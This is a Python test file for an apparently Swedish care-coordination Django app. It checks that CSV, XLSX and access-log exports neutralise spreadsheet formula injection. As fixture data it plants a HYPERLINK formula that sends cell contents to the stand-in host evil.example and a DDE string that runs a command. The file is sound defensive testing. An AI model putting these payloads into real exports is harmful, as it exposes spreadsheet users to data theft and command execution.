"""Formula injection in every export: organisation names (set by the operator) and free text
that a spreadsheet would read as a formula stay text, in every cell of the figures and the
meetings exports (CSV and XLSX) and of the admin's access-log extract. tests/test_reports_
exports.py checks the cancel reason; here every text cell is checked."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from meetings.models import Meeting
from participants import audit
from participants.models import AccessLog, Role
from reports import tallies

from ..factories import CareTeamEntryFactory, MembershipFactory
from ..reports_data import make_meeting, report_area, seed_000_meetings

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
STARTS = ("=", "+", "-", "@", "\t", "\r")
MARCH = {"date_from": "2026-03-01", "date_to": "2026-03-31"}


@pytest.fixture
def evil_area():
    area = report_area(prefix=EVIL)  # every organisation's name starts a formula
    seed_000_meetings(area, dt.date(2026, 3, 2))
    make_meeting(
        area, state=Meeting.State.CANCELLED, initiated=dt.date(2026, 3, 3),
        ended=dt.date(2026, 3, 5), cancel_reason="@SUM(1+1)*cmd|' /C calc'!A0",
    )  # fmt: skip
    return area


def _cells_csv(body: bytes, delimiter=",") -> list[str]:
    rows = csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def _cells_xlsx(body: bytes) -> list:
    workbook = load_workbook(io.BytesIO(body))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_no_cell_of_any_export_starts_a_formula(evil_area, login):
    manager = MembershipFactory(organisation=evil_area.health_care, role=Role.MANAGER).user
    client = login(manager)
    tallies.fold()
    texts = []
    for what in ("figures", "meetings"):
        csv_body = b"".join(
            client.get(reverse("reports:export", args=[what, "csv"]), MARCH).streaming_content
        )
        texts += _cells_csv(csv_body)
        xlsx = b"".join(
            client.get(reverse("reports:export", args=[what, "xlsx"]), MARCH).streaming_content
        )
        cells = _cells_xlsx(xlsx)
        assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula cells
        texts += [c.value for c in cells if isinstance(c.value, str)]
    admin = MembershipFactory(organisation=evil_area.health_care, role=Role.ORG_ADMIN).user
    person = Meeting.objects.filter(initiator_organisation=evil_area.health_care).first().person
    CareTeamEntryFactory(person=person, organisation=evil_area.health_care)
    nurse = MembershipFactory(organisation=evil_area.health_care, role=Role.NURSE).user
    audit.log_access(None, user=nurse, person=person, action=AccessLog.Action.VIEW, obj=person)
    url = reverse(
        "access_log_person_csv",
        kwargs={"org_pk": evil_area.health_care.pk, "person_pk": person.pk},
    )
    log = login(admin).get(url)
    assert log.status_code == 200
    texts += _cells_csv(b"".join(log.streaming_content), delimiter=";")
    # the names were exported (so the check saw them), neutralised
    assert "'" + evil_area.health_care.name in texts
    assert any(t.startswith("'@SUM") for t in texts)
    dangerous = [t for t in texts if t.startswith(STARTS) and not _is_number(t)]
    assert not dangerous, dangerous[:5]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        (";=1+1", ";'=1+1"),  # a comma CSV split on semicolons by Swedish Excel
        ("Möte, =HYPERLINK(1)", "Möte, '=HYPERLINK(1)"),
        ("a\t+1", "a\t'+1"),
        ("＝1+1", "'＝1+1"),  # full-width equals sign, read as = by Excel
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("rad ett\n=1+1", "rad ett\n'=1+1"),
        ("Personen är på sjukhus; åter på måndag", "Personen är på sjukhus; åter på måndag"),
    ],
)
def test_a_formula_is_neutralised_wherever_a_spreadsheet_would_split(text, safe):
    from vom.textsafety import SPLITTERS, neutralise

    assert neutralise(text) == safe
    # However the line is split, no piece starts a formula.
    import re

    for piece in re.split(f"[{re.escape(SPLITTERS)}]", neutralise(text)):
        assert piece.strip()[:1] not in set("=+-@＝＋－＠"), (text, piece)
